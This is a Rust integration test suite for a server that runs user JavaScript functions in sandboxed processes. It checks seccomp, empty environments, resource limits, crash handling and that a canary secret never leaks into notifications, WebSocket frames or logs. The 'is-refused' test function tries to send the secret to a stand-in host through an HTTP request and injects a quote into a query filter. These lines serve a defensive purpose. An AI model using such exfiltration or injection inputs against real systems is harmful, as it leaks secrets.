//! The real binary: its allocator, its processes for functions, its sudden end.

use std::path::Path;
use std::time::{Duration, Instant};

use campanile_testkit::{Answer, Client, SECRET, Token, request};
use serde_json::{Value, json};

use crate::backend::done;
use crate::process::Process;
use crate::program::Program;

fn token_of(user: &str, scope: &str) -> String {
    let now = campanile_server::clock::Clock::system().now().as_secs();
    Token::of(user, now).with("scope", scope).sign()
}

fn token() -> String {
    token_of("author", super::SCOPES)
}

async fn call(server: &Process, method: &str, path: &str, body: &Value) -> Answer {
    let (bearer, path) = (format!("Bearer {}", token()), format!("/v1/workspaces/acme{path}"));
    let headers = [("Authorization", bearer.as_str()), ("Content-Type", "application/json")];
    let body = if body.is_null() { String::new() } else { body.to_string() };
    request(server.address, method, &path, &headers, body.as_bytes()).await
}

/// The processes that a process started.
fn children(of: u32) -> Vec<u32> {
    let all = std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|entry| entry.ok()?.file_name().to_str()?.parse().ok());
    let parent = |id: &u32| {
        let stat = std::fs::read_to_string(format!("/proc/{id}/stat")).ok()?;
        stat.rsplit_once(')')?.1.split_whitespace().nth(1)?.parse::<u32>().ok()
    };
    all.filter(|id| parent(id) == Some(of)).collect()
}

fn status(id: u32, name: &str) -> String {
    let status = std::fs::read_to_string(format!("/proc/{id}/status")).unwrap();
    let value = status.lines().find_map(|line| line.strip_prefix(name)?.strip_prefix(':'));
    value.unwrap_or_else(|| panic!("no {name} in {status}")).trim().to_owned()
}

fn niceness(of: u32) -> i32 {
    let stat = std::fs::read_to_string(format!("/proc/{of}/stat")).unwrap();
    let mut behind_its_name = stat.rsplit(')').next().unwrap().split_whitespace();
    behind_its_name.nth(16).unwrap().parse().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn its_processes_run_functions_and_hold_nothing_else() {
    let program = Program::new().set("CAMPANILE_SECRET", SECRET);
    let mut server = Process::start(&program);
    let code = json!({"code": "async function run() { await api.sleep(700); return executionParams.n * 2 }"});
    done(call(&server, "PUT", "/functions/double", &code).await);
    let params = json!({"executionParams": {"n": 21}});
    let two = tokio::join!(
        call(&server, "POST", "/functions/double/run?wait=15", &params),
        call(&server, "POST", "/functions/double/run?wait=15", &params),
    );
    assert_eq!((&done(two.0)["result"], &done(two.1)["result"]), (&json!(42), &json!(42)));
    let workers = children(server.id());
    assert!(!workers.is_empty(), "no processes for functions");
    for id in &workers {
        assert_eq!(status(*id, "Seccomp"), "2", "no filter of system calls");
        assert_eq!(status(*id, "NoNewPrivs"), "1");
        let mut open: Vec<_> = std::fs::read_dir(format!("/proc/{id}/fd"))
            .unwrap()
            .filter_map(Result::ok)
            .map(|fd| fd.file_name())
            .collect();
        open.sort();
        assert_eq!(open, ["0", "1", "2"]);
        assert_eq!(std::fs::read_link(format!("/proc/{id}/fd/2")).unwrap(), Path::new("/dev/null"));
        assert_eq!(
            std::fs::read(format!("/proc/{id}/environ")).unwrap(),
            b"",
            "the environment is not empty"
        );
        assert_eq!(std::fs::read_link(format!("/proc/{id}/cwd")).unwrap(), Path::new("/"));
        assert_eq!(niceness(*id), (niceness(server.id()) + 10).min(19), "the server goes first");
        let limits = std::fs::read_to_string(format!("/proc/{id}/limits")).unwrap();
        for limited in ["Max address space", "Max cpu time"] {
            let line = limits.lines().find(|line| line.starts_with(limited)).unwrap();
            assert!(!line.contains("unlimited"), "{line}");
        }
    }
    server.kill();
    let deadline = Instant::now() + Duration::from_secs(10);
    while workers.iter().any(|id| Path::new(&format!("/proc/{id}/fd/0")).exists()) {
        assert!(Instant::now() < deadline, "processes of a server that is gone");
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn its_processes_are_of_the_binary_that_runs_though_another_was_installed() {
    let program = Program::new().set("CAMPANILE_SECRET", SECRET).copied();
    let server = Process::start(&program);
    // As installers do: written beside it, and put in its place.
    program.write("newer", "#!/bin/false\n");
    program.chmod("newer", 0o755);
    std::fs::rename(program.path("newer"), program.path("campanile")).unwrap();
    let code = json!({"code": "function run() { return 42 }"});
    done(call(&server, "PUT", "/functions/answer", &code).await);
    let ran = done(call(&server, "POST", "/functions/answer/run?wait=15", &Value::Null).await);
    assert_eq!(ran["result"], 42, "{ran}");
    for id in children(server.id()) {
        assert_eq!(status(id, "Name"), "campanile-js");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn after_a_sudden_end_it_is_told_as_interrupted_within_seconds_and_not_executed_again() {
    let program = Program::new().set("CAMPANILE_SECRET", SECRET);
    let mut server = Process::start(&program);
    let code = "async function run() { await api.createRecord('marks', {}); await api.sleep(60000) }";
    done(call(&server, "PUT", "/functions/slow", &json!({"code": code})).await);
    let id = done(call(&server, "POST", "/functions/slow/run", &Value::Null).await)["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let marks = async |server: &Process| {
        let listed = done(call(server, "GET", "/collections/marks/records", &Value::Null).await);
        listed["records"].as_array().unwrap().len()
    };
    crate::backend::until("its mark is there", async || marks(&server).await == 1).await;
    server.kill();
    server = Process::start(&program);
    let path = format!("/functions/slow/runs/{id}");
    let ended = async || done(call(&server, "GET", &path, &Value::Null).await);
    crate::backend::until("it is told", async || ended().await["status"] == "failed").await;
    assert_eq!(ended().await["error"]["name"], "Interrupted");
    assert_eq!(marks(&server).await, 1);
}

/// A value that must not be met again but by who may read the record and the run.
const CANARY: &str = "canary-90d2e1";

/// Functions that bring the value from a record and from their parameters to every place that a value can reach, and
/// how they end.
const LEAKS: [(&str, &str, &str); 6] = [
    (
        "returns",
        "completed",
        "async function run() { return [executionParams, await api.fetchRecord('o-1')] }",
    ),
    (
        "logs",
        "completed",
        "async function run() {
        api.log(executionParams, await api.fetchRecord('o-1'));
        console.error(executionParams.secret);
        await api.createRecord('kept', executionParams);
        await api.updateRecord('o-1', { further: executionParams.secret });
        api.crypto.hmacSha256(executionParams.secret, executionParams.secret);
    }",
    ),
    (
        "throws",
        "failed",
        "async function run() { throw new Error((await api.fetchRecord('o-1')).data.secret) }",
    ),
    (
        "is-refused",
        "completed",
        "async function run() {
        const { secret } = executionParams;
        for (const call of [
            () => api.http.get(`https://${secret}.example/${secret}`, { headers: { secret } }),
            () => api.notify({ to: secret, title: secret, message: secret, [secret]: secret }),
            () => api.notify({ to: {}, title: secret }),
            () => api.createRecord(secret + '/', { secret }),
            () => api.createRecord('orders', { secret }, { id: 'o-1' }),
            () => api.queryRecords('orders', { filter: `data.secret + '${secret}` }),
            () => api.fetchRecord(secret),
        ]) await call().then(() => { throw new Error('done') }, (error) => api.logError(error));
    }",
    ),
    ("spins", "timeout", "function run() { for (;;) api.log(executionParams) }"),
    ("is-too-large", "failed", "function run() { return executionParams.secret.repeat(100000) }"),
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_value_that_functions_hold_reaches_no_frame_and_no_log() {
    // Both surfaces show the same workspace, and nothing is left out of the log.
    let program = Program::new().set("CAMPANILE_SECRET", SECRET).set("CAMPANILE_LOG__LEVEL", "trace");
    let program = program.set("CAMPANILE_SURFACES__PRODUCT__WORKSPACE", "acme");
    let server = Process::start(&program);
    let put = async |name: &str, code: &str, trigger_params: &Value| {
        let function = json!({"code": code, "triggerParams": trigger_params, "limits": {"cpuMs": 200}});
        call(&server, "PUT", &format!("/functions/{name}"), &function).await
    };
    let secret = json!({ "secret": CANARY });
    let topics = LEAKS.iter().map(|(name, ..)| format!("/topics/function:{name}/subscribers"));
    let topics =
        topics.chain(["orders", "kept"].map(|name| format!("/topics/collection:{name}/subscribers")));
    for topic in topics {
        done(call(&server, "POST", &topic, &json!({"users": ["bob"]})).await);
    }
    let paths = [
        format!("/?token={}&workspaceSlug=acme", token_of("bob", "")),
        format!("/api/ws/notification?access_token={}", token_of("bob", "")),
    ];
    let mut clients = vec![];
    for path in paths {
        clients.push(Client::connect(server.address, &path).await);
    }
    assert_eq!(clients[1].json().await["type"], "CONNECTION_ESTABLISHED");

    let record = json!({"id": "o-1", "data": secret});
    done(call(&server, "POST", "/collections/orders/records", &record).await);
    for (name, ends, code) in LEAKS {
        done(put(name, code, &secret).await);
        let path = format!("/functions/{name}/run?wait=15");
        let run = done(call(&server, "POST", &path, &json!({ "executionParams": secret })).await);
        assert_eq!(run["status"], ends, "{run}");
        assert!(run.to_string().contains(CANARY), "{run}");
    }
    let broken = put("broken", &format!("function run() {{ return '{CANARY}' + ; }}"), &secret).await;
    assert_eq!(broken.status, 422);

    let mark = json!({"to": {"user": "bob"}, "title": "T", "message": "the mark"});
    done(call(&server, "POST", "/notifications", &mark).await);
    for client in &mut clients {
        let mut told = 0;
        loop {
            let frame = client.text().await;
            assert!(!frame.contains(CANARY), "{frame}");
            if frame.contains("the mark") {
                break;
            }
            told += 1;
        }
        // Beginning and end of each run, and three changes of records.
        assert_eq!(told, 2 * LEAKS.len() + 3);
    }
    for (path, list) in [("/api/notification/list", "notifications"), ("/v1/workspaces/acme/inbox", "items")]
    {
        let bearer = format!("Bearer {}", token_of("bob", ""));
        let page = done(request(server.address, "GET", path, &[("Authorization", &bearer)], b"").await);
        assert!(!page.to_string().contains(CANARY), "{page}");
        assert_eq!(page[list].as_array().unwrap().len(), LEAKS.len() + 4, "{page}");
    }
    let written = server.written();
    assert!(written.contains("listening"), "the log was read");
    let line = written.lines().find(|line| line.contains(CANARY));
    assert_eq!(line, None, "in the log");
}
